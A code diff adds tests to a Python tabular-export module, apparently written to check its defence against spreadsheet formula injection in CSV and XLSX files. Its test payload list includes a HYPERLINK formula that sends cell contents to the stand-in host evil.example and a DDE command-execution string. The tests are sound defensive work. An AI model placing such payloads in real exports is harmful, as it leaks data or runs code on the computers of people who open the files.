@@ -2,12 +2,25 @@
 
 from __future__ import annotations
 
+import csv
 import io
 
 import pytest
-from openpyxl import Workbook
+from hypothesis import given
+from hypothesis import settings as hyp_settings
+from hypothesis import strategies as st
+from openpyxl import Workbook, load_workbook
 
-from koers.core.tabular import TabularError, read_table, sniff_delimiter
+from koers.core.tabular import (
+    TabularError,
+    is_formula_like,
+    neutralise,
+    read_table,
+    sniff_delimiter,
+    unneutralise,
+    write_csv,
+    write_xlsx,
+)
 
 
 def xlsx(rows: list[list[object]]) -> bytes:
@@ -126,3 +139,49 @@ def test_it_yields_records_keyed_by_header_with_their_row_number():
     table = read_table(b"a,b\n1,2\n", "f.csv")
     assert list(table.records()) == [(2, {"a": "1", "b": "2"})]
     assert len(table) == 1
+
+
+# --- formula injection: one rule for every CSV and XLSX export --------------------------------
+
+FORMULA_PAYLOADS = [
+    '=HYPERLINK("http://evil.example/?x="&A1,"x")',
+    "=cmd|' /C calc'!A0",
+    "+1+1",
+    "-2+3",
+    "@SUM(1,1)",
+    "\t=1+1",
+    "\r=1+1",
+]
+
+
+@pytest.mark.parametrize("payload", FORMULA_PAYLOADS)
+def test_it_writes_formula_like_text_to_csv_behind_an_apostrophe_and_reads_it_back(payload):
+    content = write_csv(["title"], [[payload]])
+    [_header, [cell]] = list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))
+    assert cell == "'" + payload
+    assert read_table(content, "export.csv").rows == [[payload]]
+
+
+def test_it_leaves_numbers_and_ordinary_text_in_csv_as_they_are():
+    content = write_csv(["a", "b", "c", "d"], [[-5, 2.5, "Chatbot", "it's fine"]])
+    assert content.decode("utf-8-sig").splitlines()[1] == "-5,2.5,Chatbot,it's fine"
+
+
+@given(st.text(alphabet="'=+-@\t\r a", max_size=8) | st.text(max_size=12))
+@hyp_settings(max_examples=150, deadline=None)
+def test_neutralising_never_leaves_a_formula_and_reading_undoes_it_exactly(text):
+    cell = neutralise(text)
+    assert not is_formula_like(cell)
+    assert unneutralise(cell) == text
+
+
+def test_it_writes_formula_like_text_to_xlsx_as_text_and_negative_numbers_as_numbers():
+    content = write_xlsx("t", ["a", "b", "c", "d"], [[-5, "-5", "=1+1", "@SUM(1,1)"]])
+    sheet = load_workbook(io.BytesIO(content)).worksheets[0]
+    [cells] = list(sheet.iter_rows(min_row=2))
+    assert [(c.value, c.data_type) for c in cells] == [
+        (-5, "n"),
+        ("-5", "s"),
+        ("=1+1", "s"),
+        ("@SUM(1,1)", "s"),
+    ]
